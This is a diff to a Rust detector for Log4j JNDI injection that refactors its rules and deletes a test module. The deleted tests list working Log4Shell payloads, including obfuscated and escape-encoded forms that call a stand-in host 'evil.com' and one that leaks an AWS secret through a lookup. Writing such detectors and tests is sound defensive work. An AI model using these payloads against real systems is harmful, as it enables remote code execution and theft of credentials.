@@ -5,25 +5,18 @@
 //! escapes the application's parser undoes (`$\u007b`, `$&lbrace;`): those are undone and the
 //! lookups resolved here as Log4j would before the word is looked for.
 
-use super::more::unescape;
+use super::more::{squeeze, unescape};
 use super::{JNDI_LOOKUP, JNDI_RUNTIME};
 use crate::engine::Anchor::Pieces;
 use crate::engine::RuleDef;
 
 pub(crate) const TABLE: &[RuleDef] = &[
-    RuleDef {
-        rule: JNDI_LOOKUP,
-        anchors: &[Pieces(&["$"])],
-        check: |v| {
-            let lower = v.lower();
-            resolves_to_jndi(&unescape(lower))
-        },
-    },
-    RuleDef {
-        rule: JNDI_RUNTIME,
-        anchors: &[Pieces(&["${"])],
-        check: |v| runtime_lookup(v.bytes(), v.lower()),
-    },
+    RuleDef::always(JNDI_LOOKUP, |v| {
+        let lower = v.lower();
+        resolves_to_jndi(&unescape(lower))
+    })
+    .anchored(&[Pieces(&["$"])]),
+    RuleDef::always(JNDI_RUNTIME, |v| runtime_lookup(v.lower())).anchored(&[Pieces(&["${"])]),
 ];
 
 /// Deepest nesting of lookups resolved; deeper ones are read as written. Real obfuscations
@@ -44,7 +37,7 @@ fn resolves_to_jndi(lower: &str) -> bool {
         }
         if c == '}' {
             if let Some(body) = open.pop() {
-                let squeezed: String = body.chars().filter(|c| !c.is_whitespace()).collect();
+                let squeezed = squeeze(&body);
                 // Past the depth bound inner lookups stay as written: `${jndi:` among them.
                 if squeezed.starts_with("jndi:") || squeezed.contains("${jndi:") {
                     return true;
@@ -58,12 +51,7 @@ fn resolves_to_jndi(lower: &str) -> bool {
         }
     }
     // An unclosed lookup: Log4j leaves it as written, but the log line is then often cut.
-    open.iter().any(|body| {
-        body.chars()
-            .filter(|c| !c.is_whitespace())
-            .collect::<String>()
-            .starts_with("jndi:")
-    })
+    open.iter().any(|body| squeeze(body).starts_with("jndi:"))
 }
 
 /// What a lookup's body stands for, as far as hiding letters goes: `lower:x` and `upper:x`
@@ -86,7 +74,7 @@ fn resolve(body: &str) -> String {
 /// uses: `${env:AWS_SECRET_ACCESS_KEY}`, `${sys:user.name}`, `${java:version}`, `${ctx:…}`,
 /// `${lower:…}`, `${::-x}`. Shell and configuration snippets quote `${env:…}`-like text
 /// rarely, but they do: level 2.
-fn runtime_lookup(_: &[u8], lower: &str) -> bool {
+fn runtime_lookup(lower: &str) -> bool {
     const LOOKUPS: [&str; 16] = [
         "env:",
         "sys:",
@@ -109,54 +97,4 @@ fn runtime_lookup(_: &[u8], lower: &str) -> bool {
         let body = lower.get(i + 2..).unwrap_or_default().trim_start();
         LOOKUPS.iter().any(|l| body.starts_with(l))
     })
-}
-
-#[cfg(test)]
-mod tests {
-    use super::super::more::cases::{attacks, benign};
-    use super::*;
-
-    #[test]
-    fn cases() {
-        attacks(
-            TABLE,
-            &[
-                ("${jndi:ldap://evil.com/webshell}", "jndi-001"),
-                ("${JNDI:rmi://1.2.3.4/x}", "jndi-001"),
-                ("${${lower:j}ndi:ldap://x/y}", "jndi-001"),
-                (
-                    "${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://x/y}",
-                    "jndi-001",
-                ),
-                ("${${env:FOO:-j}ndi:ldap://evil.com/webshell}", "jndi-001"),
-                ("${${upper:j}${lower:N}di:dns://x}", "jndi-001"),
-                (
-                    "X-Api-Version: ${jndi:ldap://x/${env:AWS_SECRET}",
-                    "jndi-001",
-                ),
-                ("${ jndi : ldap://x}", "jndi-001"),
-                ("$&lbrace;jndi:ldap://evil.com/webshell}", "jndi-001"),
-                ("$&lbracejndi:ldap://evil.com/webshell}", "jndi-001"),
-                ("$\\u007Bjndi:ldap://evil.com/webshell}", "jndi-001"),
-                ("$&lcub;\\u006Andi:ldap://x}", "jndi-001"),
-                ("${env:AWS_SECRET_ACCESS_KEY}", "jndi-002"),
-                ("${java:version}", "jndi-002"),
-            ],
-        );
-        benign(
-            TABLE,
-            1,
-            &[
-                "The total is ${PRICE}",
-                "${env:HOME} in a config file",
-                "jndi: the Java Naming and Directory Interface",
-                "${a}${b}}}}}{{{${",
-                "price: ${amount:-0}",
-            ],
-        );
-        benign(TABLE, 2, &["The total is ${PRICE}", "${HOME}/bin"]);
-        // Nesting past the bound is read as written, never with more work than one pass.
-        let deep = "${".repeat(10_000) + "jndi:x" + &"}".repeat(10_000);
-        assert!(resolves_to_jndi(&deep));
-    }
 }
